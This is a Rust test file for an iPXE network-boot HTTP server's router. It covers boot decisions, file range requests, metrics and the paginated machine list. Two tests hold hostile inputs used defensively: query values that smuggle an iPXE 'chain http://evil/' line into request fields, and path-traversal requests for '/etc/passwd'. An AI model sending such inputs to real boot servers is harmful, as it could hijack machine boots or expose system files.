//! The router, request by request (`tower::ServiceExt::oneshot`, no sockets), plus one
//! loopback test of `serve`.

use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use bytes::Bytes;
use ironboot_net::files::FileSet;
use ironboot_net::proxy::ProxyCounters;
use tower::ServiceExt;

use super::{ApiState, router, serve};
use crate::boot::boot_script::{BootFromDiskMethod, init_script};
use crate::boot::inventory::{Format, Inventory};
use crate::boot::metrics::Registry;
use crate::boot::store::{Machines, Store, StoreHandles};

const INVENTORY: &str = r##"
[default]
script = """#!ipxe
echo hello ${uuid}
"""
[[machine]]
name = "disk-by-uuid"
uuid = "00000000-0000-4000-8000-000000000001"
boot = "disk"
[[machine]]
name = "kernel-by-mac"
mac = "52:54:00:aa:00:02"
kernel = "http://10.0.0.1/vmlinuz"
initrd = "http://10.0.0.1/initrd"
cmdline = "console=ttyS0"
"##;

const U1: &str = "00000000-0000-4000-8000-000000000001";

/// A file whose bytes are their own offsets mod 251, so any slice is recognisable.
fn file_bytes(len: usize) -> Bytes {
    (0..len)
        .map(|i| (i % 251) as u8)
        .collect::<Vec<u8>>()
        .into()
}

struct Harness {
    router: Router,
    machines: Machines,
    writer: Option<tokio::task::JoinHandle<()>>,
    _dir: tempfile::TempDir,
}

impl Harness {
    async fn new(method: BootFromDiskMethod) -> Harness {
        Harness::with_queue(method, 4096).await
    }

    async fn with_queue(method: BootFromDiskMethod, queue: usize) -> Harness {
        let dir = tempfile::tempdir().unwrap();
        let StoreHandles {
            recorder,
            machines,
            stats,
            writer,
        } = Store::open(dir.path()).unwrap().start(queue).unwrap();
        let inventory = Inventory::parse(INVENTORY, Format::Toml, Path::new("test.toml")).unwrap();
        let mut files = FileSet::new();
        files.insert("snp.efi", file_bytes(1000)).unwrap();
        files.insert("empty.bin", Bytes::new()).unwrap();
        files.alias("amd64/snp.efi", "snp.efi").unwrap();
        let mut metrics = Registry::new();
        metrics.register(Arc::new(ProxyCounters::default()));
        metrics.register(stats);
        let router = router(ApiState {
            init_script: init_script(
                IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)),
                50042,
                BootFromDiskMethod::IpxeExit,
            ),
            decider: Arc::new(inventory),
            disk_method: method,
            files: Arc::new(files),
            metrics,
            recorder,
            machines: machines.clone(),
        });
        Harness {
            router,
            machines,
            writer: Some(writer),
            _dir: dir,
        }
    }

    async fn send(&self, req: Request<Body>) -> (StatusCode, axum::http::HeaderMap, Bytes) {
        let resp = self.router.clone().oneshot(req).await.unwrap();
        let status = resp.status();
        let headers = resp.headers().clone();
        let body = axum::body::to_bytes(resp.into_body(), usize::MAX)
            .await
            .unwrap();
        (status, headers, body)
    }

    async fn get(&self, uri: &str) -> (StatusCode, axum::http::HeaderMap, Bytes) {
        self.send(Request::get(uri).body(Body::empty()).unwrap())
            .await
    }

    async fn get_text(&self, uri: &str) -> (StatusCode, String) {
        let (s, _, b) = self.get(uri).await;
        (s, String::from_utf8(b.to_vec()).unwrap())
    }

    async fn range(&self, uri: &str, range: &str) -> (StatusCode, axum::http::HeaderMap, Bytes) {
        self.send(
            Request::get(uri)
                .header(header::RANGE, range)
                .body(Body::empty())
                .unwrap(),
        )
        .await
    }

    /// Wait until the writer committed `n` machines.
    async fn wait_for_machines(&self, n: usize) {
        for _ in 0..500 {
            if self.machines.len() >= n {
                return;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        panic!("only {} of {n} machines recorded", self.machines.len());
    }

    /// Drop the router (and with it the recorder) and wait for the writer to finish.
    async fn finish(mut self) -> Machines {
        let writer = self.writer.take().unwrap();
        drop(self.router);
        writer.await.unwrap();
        self.machines
    }
}

fn boot_uri(query: &str) -> String {
    format!("/ipxe/boot.ipxe?{query}")
}

#[tokio::test]
async fn init_script_is_served_as_text() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    let (status, headers, body) = h.get("/ipxe/init.ipxe").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "text/plain; charset=utf-8");
    assert_eq!(headers[header::CACHE_CONTROL], "no-store");
    assert_eq!(
        headers[header::CONTENT_LENGTH],
        body.len().to_string().as_str()
    );
    let text = std::str::from_utf8(&body).unwrap();
    assert!(text.starts_with("#!ipxe\n"));
    assert!(text.contains("chain --replace http://10.0.0.1:50042/ipxe/boot.ipxe?uuid=${uuid}&"));
}

#[tokio::test]
async fn boot_decisions_follow_the_inventory() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    // Known UUID: disk, by the default method.
    let (s, body) = h
        .get_text(&boot_uri(&format!(
            "uuid={U1}&mac=52-54-00-aa-00-01&arch=x86_64"
        )))
        .await;
    assert_eq!((s, body.as_str()), (StatusCode::OK, "#!ipxe\nexit\n"));
    // Upper-case UUID from dmidecode-style firmware: same machine.
    let (_, body) = h
        .get_text(&boot_uri(&format!("uuid={}", U1.to_uppercase())))
        .await;
    assert_eq!(body, "#!ipxe\nexit\n");
    // Unknown machine: the default script, verbatim.
    let (s, body) = h
        .get_text(&boot_uri(
            "uuid=00000000-0000-4000-8000-0000000000ff&mac=52-54-00-aa-00-09&arch=arm64",
        ))
        .await;
    assert_eq!(
        (s, body.as_str()),
        (StatusCode::OK, "#!ipxe\necho hello ${uuid}\n")
    );
    // Known MAC with an unknown UUID: the MAC entry.
    let (_, body) = h
        .get_text(&boot_uri(
            "uuid=00000000-0000-4000-8000-0000000000fe&mac=52-54-00-AA-00-02&arch=i386",
        ))
        .await;
    assert_eq!(
        body,
        "#!ipxe\nkernel http://10.0.0.1/vmlinuz console=ttyS0\ninitrd http://10.0.0.1/initrd\nboot\n"
    );
}

#[tokio::test]
async fn a_missing_or_placeholder_uuid_falls_back_to_the_mac() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    for query in [
        "uuid=&mac=52-54-00-aa-00-02&domain=&hostname=&serial=&arch=x86_64",
        "mac=52:54:00:aa:00:02",
        "uuid=00000000-0000-0000-0000-000000000000&mac=52-54-00-aa-00-02",
        "uuid=%20&mac=525400aa0002",
    ] {
        let (s, body) = h.get_text(&boot_uri(query)).await;
        assert_eq!(s, StatusCode::OK, "{query}: {body}");
        assert!(
            body.contains("kernel http://10.0.0.1/vmlinuz"),
            "{query}: {body}"
        );
    }
    h.wait_for_machines(1).await;
    let machines = h.finish().await;
    assert!(machines.get("mac-52:54:00:aa:00:02").is_some());
}

#[tokio::test]
async fn disk_methods() {
    let h = Harness::new(BootFromDiskMethod::IpxeSanboot).await;
    let (s, body) = h.get_text(&boot_uri(&format!("uuid={U1}"))).await;
    assert_eq!(
        (s, body.as_str()),
        (
            StatusCode::OK,
            "#!ipxe\nsanboot --no-describe --drive 0x80\n"
        )
    );
    let h = Harness::new(BootFromDiskMethod::Http404).await;
    let (s, body) = h.get_text(&boot_uri(&format!("uuid={U1}"))).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    assert!(body.contains("http-404"), "{body}");
    // Other targets are unaffected by the method.
    let (s, _) = h.get_text(&boot_uri("mac=52-54-00-aa-00-02")).await;
    assert_eq!(s, StatusCode::OK);
    // The 404 decision is still recorded as a disk boot.
    h.wait_for_machines(2).await;
    let machines = h.finish().await;
    let r = machines.get(U1).unwrap();
    assert_eq!((r.last_boot.as_str(), r.boots), ("disk", 1));
}

#[tokio::test]
async fn bad_requests_get_400_with_the_reason() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    let cases = [
        ("uuid=not-a-uuid&mac=52-54-00-aa-00-01", "bad uuid"),
        (
            "uuid=00000000-0000-4000-8000-00000000000&mac=52-54-00-aa-00-01",
            "bad uuid",
        ),
        (&*format!("uuid={U1}&mac=52-54-00-aa-00"), "bad mac"),
        ("mac=zz-54-00-aa-00-01", "bad mac"),
        ("", "need a uuid or a mac"),
        ("uuid=&mac=&arch=x86_64", "need a uuid or a mac"),
        ("uuid=00000000-0000-0000-0000-000000000000", "placeholder"),
        (
            &*format!("uuid={U1}&arch=riscv64"),
            "unknown arch \"riscv64\"",
        ),
        (&*format!("uuid={U1}&arch=arm32"), "unknown arch"),
        (&*format!("uuid={U1}&uuid={U1}"), "bad query"),
    ];
    for (query, reason) in cases {
        let (s, headers, body) = h.get(&boot_uri(query)).await;
        let body = String::from_utf8(body.to_vec()).unwrap();
        assert_eq!(s, StatusCode::BAD_REQUEST, "{query}: {body}");
        assert!(body.contains(reason), "{query}: {body}");
        assert_eq!(headers[header::CONTENT_TYPE], "text/plain; charset=utf-8");
    }
    // Nothing was recorded for refused requests.
    tokio::time::sleep(Duration::from_millis(50)).await;
    assert_eq!(h.machines.len(), 0);
}

#[tokio::test]
async fn injection_attempts_change_nothing_and_are_not_echoed_raw() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    // Informational values with script lines in them: the script is the inventory's.
    let (s, body) = h
        .get_text(&boot_uri(&format!(
            "uuid={U1}&hostname=x%0Ashell&serial=%23!ipxe%0Achain%20http://evil/&domain=a%0D%0Ab"
        )))
        .await;
    assert_eq!((s, body.as_str()), (StatusCode::OK, "#!ipxe\nexit\n"));
    // Identifiers with script lines: refused, and the echo is escaped.
    for query in [
        "uuid=%0Ashell&mac=52-54-00-aa-00-01",
        "mac=52-54-00-aa-00-01%0Achain%20http://evil/",
        "uuid=00000000-0000-4000-8000-000000000001&arch=x86_64%0Ashell",
    ] {
        let (s, body) = h.get_text(&boot_uri(query)).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{query}");
        assert_eq!(body.matches('\n').count(), 1, "{query}: {body:?}");
        assert!(body.ends_with('\n') && !body.contains("#!ipxe"), "{body:?}");
    }
    // The stored values are cleaned.
    h.wait_for_machines(1).await;
    let machines = h.finish().await;
    let r = machines.get(U1).unwrap();
    assert_eq!(r.hostname.as_deref(), Some("xshell"));
    assert_eq!(r.serial.as_deref(), Some("#!ipxechain http://evil/"));
}

#[tokio::test]
async fn unknown_scripts_and_paths_are_404_and_wrong_methods_405() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    for uri in [
        "/ipxe/other.ipxe",
        "/ipxe/",
        "/ipxe/boot.ipxe/x",
        "/",
        "/tftp",
        "/api/v1/machine",
    ] {
        let (s, body) = h.get_text(uri).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{uri}");
        assert!(body.ends_with('\n'), "{uri}");
    }
    let (_, body) = h.get_text("/ipxe/other.ipxe").await;
    assert!(body.contains("no such iPXE script"), "{body}");
    let (s, _, _) = h
        .send(
            Request::post("/ipxe/boot.ipxe")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(s, StatusCode::METHOD_NOT_ALLOWED);
}

#[tokio::test]
async fn files_are_served_whole_with_length_and_range_support() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    let whole = file_bytes(1000);
    for uri in ["/tftp/snp.efi", "/tftp/amd64/snp.efi", "/tftp//snp.efi"] {
        let (s, headers, body) = h.get(uri).await;
        assert_eq!(s, StatusCode::OK, "{uri}");
        assert_eq!(body, whole, "{uri}");
        assert_eq!(headers[header::CONTENT_LENGTH], "1000");
        assert_eq!(headers[header::ACCEPT_RANGES], "bytes");
        assert_eq!(headers[header::CONTENT_TYPE], "application/octet-stream");
    }
    // HEAD: the headers of GET, no body.
    let (s, headers, body) = h
        .send(Request::head("/tftp/snp.efi").body(Body::empty()).unwrap())
        .await;
    assert_eq!((s, body.len()), (StatusCode::OK, 0));
    assert_eq!(headers[header::CONTENT_LENGTH], "1000");
    assert_eq!(headers[header::ACCEPT_RANGES], "bytes");
    let (s, headers, body) = h
        .send(
            Request::head("/tftp/snp.efi")
                .header(header::RANGE, "bytes=10-19")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!((s, body.len()), (StatusCode::PARTIAL_CONTENT, 0));
    assert_eq!(headers[header::CONTENT_LENGTH], "10");
    // Ranges.
    for (range, start, end) in [
        ("bytes=0-0", 0, 1),
        ("bytes=100-199", 100, 200),
        ("bytes=990-", 990, 1000),
        ("bytes=-10", 990, 1000),
        ("bytes=500-5000", 500, 1000),
    ] {
        let (s, headers, body) = h.range("/tftp/snp.efi", range).await;
        assert_eq!(s, StatusCode::PARTIAL_CONTENT, "{range}");
        assert_eq!(body, whole.slice(start..end), "{range}");
        assert_eq!(
            headers[header::CONTENT_LENGTH],
            (end - start).to_string().as_str()
        );
        assert_eq!(
            headers[header::CONTENT_RANGE],
            format!("bytes {start}-{}/1000", end - 1).as_str(),
            "{range}"
        );
    }
    for range in ["bytes=1000-", "bytes=2000-3000", "bytes=-0"] {
        let (s, headers, _) = h.range("/tftp/snp.efi", range).await;
        assert_eq!(s, StatusCode::RANGE_NOT_SATISFIABLE, "{range}");
        assert_eq!(headers[header::CONTENT_RANGE], "bytes */1000");
    }
    let (s, headers, _) = h.range("/tftp/empty.bin", "bytes=0-").await;
    assert_eq!(s, StatusCode::RANGE_NOT_SATISFIABLE);
    assert_eq!(headers[header::CONTENT_RANGE], "bytes */0");
    // Ignored ranges: the whole file.
    for range in ["bytes=0-1,5-6", "bytes=9-3", "lines=1-2", "bytes=x-"] {
        let (s, _, body) = h.range("/tftp/snp.efi", range).await;
        assert_eq!((s, body.len()), (StatusCode::OK, 1000), "{range}");
    }
    let (s, _, body) = h
        .send(
            Request::get("/tftp/snp.efi")
                .header(header::RANGE, "bytes=0-9")
                .header(header::IF_RANGE, "\"some-etag\"")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!((s, body.len()), (StatusCode::OK, 1000));
    let (s, _, body) = h.get("/tftp/empty.bin").await;
    assert_eq!((s, body.len()), (StatusCode::OK, 0));
}

#[tokio::test]
async fn file_names_are_checked() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    for uri in [
        "/tftp/../etc/passwd",
        "/tftp/%2e%2e/etc/passwd",
        "/tftp/amd64/../snp.efi",
        "/tftp/a%00b",
        "/tftp/a%5Cb",
        "/tftp/./snp.efi",
        "/tftp/snp.efi/",
    ] {
        let (s, body) = h.get_text(uri).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{uri}: {body}");
        assert!(body.starts_with("bad file name"), "{uri}: {body}");
    }
    let long = format!("/tftp/{}", "a".repeat(300));
    assert_eq!(h.get_text(&long).await.0, StatusCode::BAD_REQUEST);
    let (s, _) = h.get_text("/tftp/%ff%fe").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "not UTF-8");
    for uri in ["/tftp/missing.efi", "/tftp/arm64/snp.efi", "/tftp/SNP.EFI"] {
        assert_eq!(h.get_text(uri).await.0, StatusCode::NOT_FOUND, "{uri}");
    }
}

#[tokio::test]
async fn health_metrics_and_machines() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    assert_eq!(
        h.get_text("/healthz").await,
        (StatusCode::OK, "ok\n".into())
    );
    h.get(&boot_uri(&format!(
        "uuid={U1}&mac=52-54-00-aa-00-01&serial=S%201&hostname=n1&domain=lab&arch=x86_64"
    )))
    .await;
    h.get(&boot_uri("mac=52-54-00-aa-00-02&arch=arm64")).await;
    h.get(&boot_uri("uuid=bad")).await;
    h.get("/tftp/missing").await;
    h.get("/nope").await;
    h.wait_for_machines(2).await;

    let (s, headers, body) = h.get("/metrics").await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        headers[header::CONTENT_TYPE],
        "text/plain; version=0.0.4; charset=utf-8"
    );
    let text = String::from_utf8(body.to_vec()).unwrap();
    for line in [
        "ironboot_http_requests_total{route=\"boot_script\",status=\"200\"} 2",
        "ironboot_http_requests_total{route=\"boot_script\",status=\"400\"} 1",
        "ironboot_http_requests_total{route=\"files\",status=\"404\"} 1",
        "ironboot_http_requests_total{route=\"healthz\",status=\"200\"} 1",
        "ironboot_http_requests_total{route=\"other\",status=\"404\"} 1",
        "ironboot_boot_decisions_total{kind=\"disk\"} 1",
        "ironboot_boot_decisions_total{kind=\"kernel\"} 1",
        "ironboot_boot_decisions_total{kind=\"script\"} 0",
        "ironboot_store_sightings_total{result=\"written\"} 2",
        "ironboot_store_sightings_total{result=\"dropped_queue_full\"} 0",
        "ironboot_store_machines 2",
    ] {
        assert!(
            text.lines().any(|l| l == line),
            "missing {line:?} in\n{text}"
        );
    }
    assert!(text.contains("# TYPE ironboot_dhcp_requests_total counter"));

    let (s, headers, body) = h.get("/api/v1/machines").await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "application/json");
    let list: serde_json::Value = serde_json::from_slice(&body).unwrap();
    let list = list.as_array().unwrap();
    assert_eq!(list.len(), 2);
    let m = &list[0];
    assert_eq!(m["id"], U1);
    assert_eq!(m["uuid"], U1);
    assert_eq!(m["macs"], serde_json::json!(["52:54:00:aa:00:01"]));
    assert_eq!(m["arch"], "amd64");
    assert_eq!(m["serial"], "S 1");
    assert_eq!(m["hostname"], "n1");
    assert_eq!(m["domain"], "lab");
    assert_eq!(m["last_boot"], "disk");
    assert_eq!(m["boots"], 1);
    assert_eq!(m["inventory_entry"], U1, "matched by its UUID");
    assert_eq!(
        m["last_ip"],
        serde_json::Value::Null,
        "oneshot has no peer address"
    );
    let first_seen = m["first_seen"].as_str().unwrap();
    assert!(
        first_seen.len() == 24 && first_seen.ends_with('Z'),
        "{first_seen}"
    );
    assert_eq!(list[1]["id"], "mac-52:54:00:aa:00:02");
    assert_eq!(list[1]["uuid"], serde_json::Value::Null);
    assert_eq!(list[1]["arch"], "arm64");
    assert_eq!(list[1]["last_boot"], "kernel");
    assert_eq!(list[1]["inventory_entry"], "52:54:00:aa:00:02");
}

#[tokio::test]
async fn a_storm_of_boot_requests_is_answered_and_recorded() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    let n = 600u32;
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..n {
        let router = h.router.clone();
        tasks.spawn(async move {
            let uri = boot_uri(&format!(
                "uuid=00000000-0000-4000-8000-{i:012x}&mac=52-54-00-00-{:02x}-{:02x}&arch=x86_64",
                i / 256,
                i % 256
            ));
            let resp = router
                .oneshot(Request::get(uri).body(Body::empty()).unwrap())
                .await
                .unwrap();
            resp.status()
        });
    }
    while let Some(status) = tasks.join_next().await {
        assert_eq!(status.unwrap(), StatusCode::OK);
    }
    let machines = h.finish().await;
    assert_eq!(machines.len(), n as usize);
    assert_eq!(
        machines
            .get("00000000-0000-4000-8000-000000000000")
            .unwrap()
            .boots,
        1
    );
}

#[tokio::test]
async fn a_full_store_queue_drops_sightings_not_requests() {
    // Queue of 1 and a writer that may not keep up: every request is still answered, and
    // anything not recorded is counted.
    let h = Harness::with_queue(BootFromDiskMethod::IpxeExit, 1).await;
    for i in 0..200u32 {
        let (s, _) = h
            .get_text(&boot_uri(&format!(
                "uuid=00000000-0000-4000-8000-{:012x}",
                i + 1
            )))
            .await;
        assert_eq!(s, StatusCode::OK);
    }
    let (_, text) = h.get_text("/metrics").await;
    let count = |result: &str| -> u64 {
        let prefix = format!("ironboot_store_sightings_total{{result=\"{result}\"}} ");
        text.lines()
            .find_map(|l| l.strip_prefix(&prefix))
            .unwrap()
            .parse()
            .unwrap()
    };
    let dropped = count("dropped_queue_full");
    let machines = h.finish().await;
    assert_eq!(machines.len() as u64 + dropped, 200);
}

#[tokio::test]
async fn serve_records_the_peer_address_and_shuts_down_gracefully() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let gate = super::server::Gate::new(
        super::server::Limits::default(),
        Arc::new(super::server::ConnCounters::default()),
    );
    let server = tokio::spawn(serve(listener, h.router.clone(), gate, async {
        let _ = stopped.await;
    }));
    // A plain blocking client on a blocking thread: no HTTP client dependency needed.
    let response = tokio::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let mut conn = std::net::TcpStream::connect(addr).unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        write!(
            conn,
            "GET /ipxe/boot.ipxe?uuid={U1}&arch=x86_64 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut response = String::new();
        conn.read_to_string(&mut response).unwrap();
        response
    })
    .await
    .unwrap();
    assert!(response.starts_with("HTTP/1.1 200 OK\r\n"), "{response}");
    assert!(
        response
            .to_ascii_lowercase()
            .contains("content-length: 12\r\n"),
        "{response}"
    );
    assert!(response.ends_with("\r\n\r\n#!ipxe\nexit\n"), "{response}");
    stop.send(()).unwrap();
    tokio::time::timeout(Duration::from_secs(5), server)
        .await
        .expect("serve stops after the shutdown signal")
        .unwrap()
        .unwrap();
    let machines = h.finish().await;
    assert_eq!(
        machines.get(U1).unwrap().last_ip,
        Some(IpAddr::V4(Ipv4Addr::LOCALHOST))
    );
}

/// The `after` of a `Link: <...>; rel="next"` header, if any.
fn next_after(headers: &axum::http::HeaderMap) -> Option<String> {
    let link = headers.get(header::LINK)?.to_str().unwrap();
    assert!(link.ends_with(">; rel=\"next\""), "{link}");
    let uri = link.strip_prefix('<')?.split('>').next()?;
    assert!(uri.starts_with("/api/v1/machines?limit="), "{link}");
    Some(uri.split("&after=").nth(1)?.to_owned())
}

#[tokio::test]
async fn the_machine_list_is_paginated_with_a_next_link_and_streamed_in_chunks() {
    let h = Harness::new(BootFromDiskMethod::IpxeExit).await;
    let n = 250u32;
    for i in 0..n {
        h.get(&boot_uri(&format!(
            "uuid=00000000-0000-4000-8000-{i:012x}&mac=52-54-00-00-{:02x}-{:02x}",
            i / 256,
            i % 256
        )))
        .await;
    }
    h.wait_for_machines(n as usize).await;
    // A machine without a UUID: its ID (`mac-...`) sorts after every UUID.
    h.get(&boot_uri("mac=52-54-00-aa-00-02")).await;
    h.wait_for_machines(n as usize + 1).await;

    // Without parameters: one JSON array of every machine (fewer than the default limit),
    // no Link.
    let (s, headers, body) = h.get("/api/v1/machines").await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "application/json");
    assert!(headers.get(header::LINK).is_none());
    let all: Vec<serde_json::Value> = serde_json::from_slice(&body).unwrap();
    assert_eq!(all.len(), n as usize + 1);

    // Page by page: each page at most the limit, the Link's cursor continues where the
    // page ended, every machine exactly once, in ID order.
    let mut ids = Vec::new();
    let mut uri = "/api/v1/machines?limit=100".to_owned();
    let mut pages = 0;
    loop {
        let (s, headers, body) = h.get(&uri).await;
        assert_eq!(s, StatusCode::OK, "{uri}");
        let page: Vec<serde_json::Value> = serde_json::from_slice(&body).unwrap();
        assert!(
            page.len() <= 100 && !page.is_empty(),
            "{uri}: {}",
            page.len()
        );
        ids.extend(page.iter().map(|m| m["id"].as_str().unwrap().to_owned()));
        pages += 1;
        match next_after(&headers) {
            Some(after) => {
                assert_eq!(Some(&after), ids.last(), "the cursor is the page's last ID");
                uri = format!("/api/v1/machines?limit=100&after={after}");
            }
            None => break,
        }
    }
    assert_eq!(pages, 3);
    let want: Vec<String> = all
        .iter()
        .map(|m| m["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(ids, want);
    assert_eq!(ids.last().unwrap(), "mac-52:54:00:aa:00:02");
    // After the last machine: an empty array.
    let (s, headers, body) = h.get("/api/v1/machines?after=mac-52:54:00:aa:00:02").await;
    assert_eq!((s, &body[..]), (StatusCode::OK, &b"[]"[..]));
    assert!(headers.get(header::LINK).is_none());

    // The body comes in chunks of at most 64 records, produced as they are polled.
    let resp = h
        .router
        .clone()
        .oneshot(
            Request::get("/api/v1/machines?limit=200")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    let (mut frames, mut bytes) = (Vec::new(), Vec::new());
    let mut stream = resp.into_body().into_data_stream();
    while let Some(chunk) = tokio_stream::StreamExt::next(&mut stream).await {
        let chunk = chunk.unwrap();
        frames.push(chunk.len());
        bytes.extend_from_slice(&chunk);
    }
    assert_eq!(frames.len(), 4, "200 records in chunks of 64: {frames:?}");
    let page: Vec<serde_json::Value> = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(page.len(), 200);

    // Bad parameters are refused with the reason.
    for (q, reason) in [
        ("limit=0", "bad limit"),
        ("limit=10001", "bad limit"),
        ("limit=ten", "bad limit"),
        ("limit=-1", "bad limit"),
    ] {
        let (s, text) = h.get_text(&format!("/api/v1/machines?{q}")).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{q}");
        assert!(
            text.contains(reason) && text.contains("10000"),
            "{q}: {text}"
        );
    }
    let (s, text) = h
        .get_text(&format!("/api/v1/machines?after={}", "x".repeat(65)))
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(text.contains("bad after"), "{text}");
    // The largest limit is accepted.
    let (s, _) = h.get_text("/api/v1/machines?limit=10000").await;
    assert_eq!(s, StatusCode::OK);
}
